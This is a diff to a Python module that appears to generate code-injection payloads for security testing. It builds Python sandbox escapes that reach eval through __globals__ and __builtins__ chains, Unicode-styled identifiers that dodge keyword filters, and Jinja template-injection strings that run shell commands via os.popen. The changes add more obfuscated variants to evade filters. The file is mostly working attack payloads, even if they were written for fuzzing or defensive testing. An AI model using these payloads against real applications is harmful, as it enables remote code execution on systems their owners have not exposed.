@@ -30,9 +30,12 @@ def _number(text: str) -> str:
 
 
 def by_signs_of_a_formula(code: str) -> str:
-    """From a number to the built-in functions with nothing but letters, digits, dots and round brackets."""
+    """From a number to the built-in functions with nothing but letters, digits, dots and round brackets.
+
+    Every call is that of an attribute, for programs that allow those.
+    """
     names = "(1).__reduce_ex__(2).__getitem__(0).__globals__"
-    return f"{names}.get({_number('__builtins__')}).get({_number('eval')})({_number(climb('()', code))})"
+    return f"{names}.get({_number('__builtins__')}).get({_number('eval')}).__call__({_number(climb('()', code))})"
 
 
 def _without_underscores(start: str, code: str) -> str:
@@ -70,7 +73,7 @@ def codes(marker: Any, value: str = "x") -> dict[str, str]:
         "EXPR_TEXT": climb("''", run),
         "EXPR_SIGNS": by_signs_of_a_formula(run),
         "EXPR_HIDDEN": f"getattr(getattr(print, {quoted('__self__')}), {quoted('eval')})({quoted(run)})",
-        "EXPR_LETTERS": f"𝒆𝒗𝒂𝒍(bytes({list(run.encode())}).decode())",
+        "EXPR_LETTERS": f"𝒆𝒗𝒂𝒍(𝒃𝒚𝒕𝒆𝒔({list(run.encode())}).𝒅𝒆𝒄𝒐𝒅𝒆())",
         "JINJA_SELF": f"self.__init__.__globals__.__builtins__.eval({quoted(run)})",
         "JINJA_CYCLER": f"cycler.__init__.__globals__.os.popen('{marker.shell}').read()",
         "JINJA_LIPSUM": f"lipsum.__globals__['os'].popen('{marker.shell}').read()",
@@ -140,8 +143,8 @@ def formulas(value: str) -> Iterator[str]:
     """Formulas in which code stands at every place that a reader of the notation may not look at."""
     places = [[place.replace("V", value) for place in tier] for tier in _IN_FORMULAS]
     words = [[EXPRESSIONS[0], EXPRESSIONS[1]], EXPRESSIONS[2:4], EXPRESSIONS[4:]]
-    for place, word in ranked(places, words):
-        yield place.replace("@", word)
+    combined = (place.replace("@", word) for place, word in ranked(places, words))
+    yield from in_turn(combined, (place.replace("@", word) for word in EXPRESSIONS for place in places[0]))
 
 
 _IN_TEMPLATES = (
